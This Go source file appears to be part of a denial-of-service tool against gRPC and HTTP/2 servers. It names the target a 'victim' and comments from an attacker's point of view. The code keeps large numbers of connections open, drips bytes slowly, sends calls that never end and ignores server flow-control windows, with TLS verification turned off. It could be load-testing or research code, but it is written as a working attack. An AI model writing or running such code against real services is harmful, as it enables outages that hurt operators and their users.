package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"net/http"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// victim is a server, as one worker sees it.
type victim struct {
	address  string
	from     net.IP // of the worker
	throttle *throttle
	kept     []net.Conn
}

const (
	// mostKept is how many connections a worker keeps open: 4 workers of 6 attacks keep thousands in all.
	mostKept = 150
	// patience is how long a worker waits for a server that does not answer.
	patience = 3 * time.Second
)

func (v *victim) dial(ctx context.Context) (net.Conn, error) {
	return (&net.Dialer{Timeout: patience, LocalAddr: &net.TCPAddr{IP: v.from}}).DialContext(ctx, "tcp", v.address)
}

// shake makes a connection without verifying the server.
func (v *victim) shake(ctx context.Context, protocol string) (net.Conn, error) {
	raw, err := v.dial(ctx)
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	secure := tls.Client(raw, &tls.Config{
		InsecureSkipVerify: true, NextProtos: []string{protocol}, //nolint:gosec // an attacker does not mind
		CurvePreferences: []tls.CurveID{tls.X25519}, // which costs the attacker least
	})
	if err := secure.HandshakeContext(ctx); err != nil {
		return nil, errors.Join(err, raw.Close())
	}
	return secure, nil
}

// keep leaves a connection open, and closes the oldest one when there are many.
func (v *victim) keep(c net.Conn) {
	v.kept = append(v.kept, c)
	if len(v.kept) > mostKept {
		_ = v.kept[0].Close()
		v.kept = v.kept[1:]
	}
}

func (v *victim) release() {
	for _, c := range v.kept {
		_ = c.Close()
	}
}

// drip sends a little now and then for as long as the connection is open.
func (v *victim) drip(c net.Conn, drop []byte) {
	go func() { // ends with the connection
		for {
			time.Sleep(200 * time.Millisecond)
			if _, err := c.Write(drop); err != nil {
				return
			}
		}
	}()
}

// h2conn is an HTTP/2 connection, frame by frame.
type h2conn struct {
	net.Conn
	throttle *throttle
	framer   *http2.Framer
	out      *bufio.Writer
	stream   uint32
	packed   bytes.Buffer
	packer   *hpack.Encoder
	answers  chan struct{}
	closed   chan struct{}
}

// calls makes a connection for gRPC calls. It is no failure if the server cuts it.
func (v *victim) calls(ctx context.Context, do func(*h2conn) error) error {
	raw, err := v.shake(ctx, "h2")
	if err != nil {
		return err
	}
	c := &h2conn{
		Conn: raw, throttle: v.throttle, out: bufio.NewWriter(raw), stream: 1,
		answers: make(chan struct{}, 1000), closed: make(chan struct{}),
	}
	c.framer = http2.NewFramer(c.out, bufio.NewReader(raw))
	c.packer = hpack.NewEncoder(&c.packed)
	if _, err := io.WriteString(c.out, http2.ClientPreface); err != nil {
		return err
	}
	if err := errors.Join(c.framer.WriteSettings(), c.out.Flush()); err != nil {
		return errors.Join(err, raw.Close())
	}
	go c.listen() // ends with the connection
	before := len(v.kept)
	_ = do(c)
	if len(v.kept) == before || v.kept[len(v.kept)-1] != net.Conn(c) {
		_ = c.Close()
	}
	return nil
}

// listen records answers.
func (c *h2conn) listen() {
	defer close(c.closed)
	for {
		frame, err := c.framer.ReadFrame()
		if err != nil {
			return
		}
		if _, ok := frame.(*http2.HeadersFrame); ok {
			select {
			case c.answers <- struct{}{}:
			default:
			}
		}
	}
}

// answer waits for one.
func (c *h2conn) answer() error {
	select {
	case <-c.answers:
		return nil
	case <-c.closed:
		return io.EOF
	case <-time.After(patience):
		return errors.New("no answer")
	}
}

func (c *h2conn) headers(method string, more []hpack.HeaderField) error {
	c.packed.Reset()
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "x"},
		{Name: ":path", Value: method},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
		{Name: "grpc-timeout", Value: "99999H"},
	}, more...) {
		if err := c.packer.WriteField(field); err != nil {
			return err
		}
	}
	return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: c.packed.Bytes(), EndHeaders: true})
}

// call sends a call and ignores the server's windows.
func (c *h2conn) call(method string, more []hpack.HeaderField, data []byte, end bool) error {
	c.stream += 2
	if err := c.headers(method, more); err != nil {
		return err
	}
	_ = c.SetWriteDeadline(time.Now().Add(patience))
	for len(data) > 0 {
		n := min(len(data), 16<<10)
		if err := c.framer.WriteData(c.stream, end && n == len(data), data[:n]); err != nil {
			return err
		}
		data = data[n:]
	}
	return c.out.Flush()
}

// post makes gRPC calls on one connection, and sends as much as the server accepts. It ends when the server has
// answered all of them, or has cut the connection.
func (v *victim) post(ctx context.Context, methods []string, body func() io.Reader) error {
	raw, err := v.shake(ctx, "h2")
	if err != nil {
		return err
	}
	defer raw.Close()
	conn := over(raw)
	defer conn.CloseIdleConnections()
	ctx, cancel := context.WithTimeout(ctx, 10*patience)
	defer cancel()
	var all sync.WaitGroup
	for _, method := range methods {
		r, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://x"+method, throttled{ctx, v.throttle, body()})
		if err != nil {
			return err
		}
		r.Header.Set("Content-Type", "application/grpc")
		r.Header.Set("Te", "trailers")
		all.Go(func() {
			if response, err := conn.RoundTrip(r); err == nil {
				_, _ = io.Copy(io.Discard, response.Body)
				_ = response.Body.Close()
			}
		})
	}
	all.Wait()
	return nil
}

// over uses HTTP/2 over one connection, and opens no other.
func over(raw net.Conn) *http.Transport {
	var protocols http.Protocols
	protocols.SetHTTP2(true)
	once := make(chan net.Conn, 1)
	once <- raw
	return &http.Transport{Protocols: &protocols, MaxConnsPerHost: 1, DialTLSContext: func(context.Context, string, string) (net.Conn, error) {
		select {
		case c := <-once:
			return c, nil
		default:
			return nil, net.ErrClosed
		}
	}}
}

// throttled reads no faster than this process may work.
type throttled struct {
	ctx      context.Context
	throttle *throttle
	from     io.Reader
}

func (t throttled) Read(b []byte) (int, error) {
	if !t.throttle.wait(t.ctx) {
		return 0, context.Cause(t.ctx)
	}
	return t.from.Read(b)
}

// stall is a message that never continues.
type stall struct{ ctx context.Context }

func (s stall) Read([]byte) (int, error) {
	<-s.ctx.Done()
	return 0, context.Cause(s.ctx)
}

// hello is a TLS ClientHello.
var hello = sync.OnceValue(func() []byte {
	near, far := net.Pipe()
	go func() {
		_ = tls.Client(near, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, CurvePreferences: []tls.CurveID{tls.X25519}}).Handshake() //nolint:gosec // as above
	}()
	defer near.Close()
	defer far.Close()
	header := make([]byte, 5)
	if _, err := io.ReadFull(far, header); err != nil {
		return nil
	}
	body := make([]byte, int(header[3])<<8|int(header[4]))
	if _, err := io.ReadFull(far, body); err != nil {
		return nil
	}
	return append(header, body...)
})
